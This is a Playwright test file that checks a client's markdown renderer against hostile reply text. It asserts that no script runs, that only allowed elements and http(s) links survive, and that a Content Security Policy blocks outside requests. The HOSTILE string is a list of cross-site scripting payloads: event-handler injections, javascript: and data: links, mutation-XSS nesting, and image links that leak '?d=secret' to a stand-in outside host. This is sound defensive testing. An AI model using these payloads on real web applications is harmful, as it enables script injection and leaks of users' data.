"""The page shows hostile text in a reply, and the text does nothing."""

from playwright.sync_api import Page

from tests.services.client_page import ORIGIN

HOSTILE = """<img src=x onerror="pwned=1"> <script>pwned=2</script> <svg onload="pwned=3"><a xlink:href=x>

![pic](http://elsewhere.test/a.png?d=secret) ![ref][r] [![x](http://elsewhere.test/b.png)](http://elsewhere.test)
[a](javascript:pwned=5) [b](data:text/html,<script>pwned=6</script>) [c](&#106;avascript:pwned=7) [d](/auth)
[e](http://elsewhere.test "t\\" onmouseover=pwned=8") <javascript:pwned=9> [f](vbscript:x) [g](JaVaScRiPt:pwned=10)
<a href="javascript:pwned=11" onclick="pwned=12">x</a> <iframe src=//elsewhere.test></iframe> <base href=//x.test>
<link rel=stylesheet href=//elsewhere.test/s.css><style>@import url(//elsewhere.test/i.css)</style><form><input>

```html"><img src=x onerror=pwned=13>
<img src=x onerror=pwned=14></code></pre><script>pwned=15</script>
```
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=16&gt;">
| a | b |
|--|:-:|
| <img src=x onerror=pwned=17> | `<img src=x onerror=pwned=18>` |

<details open ontoggle=pwned=19><video><source onerror=pwned=20></video><template><img src=x onerror=pwned=21>

[r]: http://elsewhere.test/c.png?d=secret
"""

# Renders the growing text into the page, and returns every element and attribute of the result.
RENDER = """async (text) => {
    const { render } = await import("/client/views/markdown.js");
    const seen = new Set();
    for (let end = 1; end <= text.length; end++) {
        document.body.replaceChildren(render(text.slice(0, end)));
        for (const element of document.body.querySelectorAll("*")) {
            seen.add(element.localName);
            for (const { name, value } of element.attributes) seen.add(`${element.localName} ${name}=${value}`);
        }
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { seen: [...seen], pwned: window.pwned ?? null };
}"""
ELEMENTS = {"a", "br", "code", "div", "em", "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr"}


def test_hostile_text_is_inert_however_far_it_has_come(page: Page) -> None:
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    result = page.evaluate(RENDER, HOSTILE)
    elements = {one for one in result["seen"] if " " not in one}
    attributes = {one.split(" ", 1)[1] for one in result["seen"] if " " in one}
    links = {one.removeprefix("href=") for one in attributes if one.startswith("href=")}
    assert result["pwned"] is None
    assert elements <= ELEMENTS
    assert elements >= {"table", "pre", "a"}, "the markdown itself is still rendered"
    own = {"dir=auto", "dir=ltr", "class=table", "tabindex=0", "role=group", "aria-label=Table", "aria-label=Code"}
    assert attributes - {f"href={link}" for link in links} - own == {
        "target=_blank",
        "rel=noopener noreferrer nofollow",
    }
    assert all(link.startswith(("http://", "https://")) for link in links), links
    assert {url for url in requests if not url.startswith(ORIGIN)} == set()


# Acts as if the sanitiser had a hole.
BREAK_OUT = """async () => {
    const image = new Image();
    const loaded = new Promise((resolve) => (image.onload = image.onerror = ({ type }) => resolve(type)));
    image.src = "http://elsewhere.test/leak.png";
    document.body.append(image);
    try {
        document.body.innerHTML = "<b>x</b>";
    } catch (refusal) {
        return [await loaded, refusal.name];
    }
}"""


def test_the_policy_holds_where_the_sanitiser_would_not(page: Page) -> None:
    with page.expect_event("requestfailed") as failed:
        assert page.evaluate(BREAK_OUT) == ["error", "TypeError"]
    assert failed.value.failure == "csp"
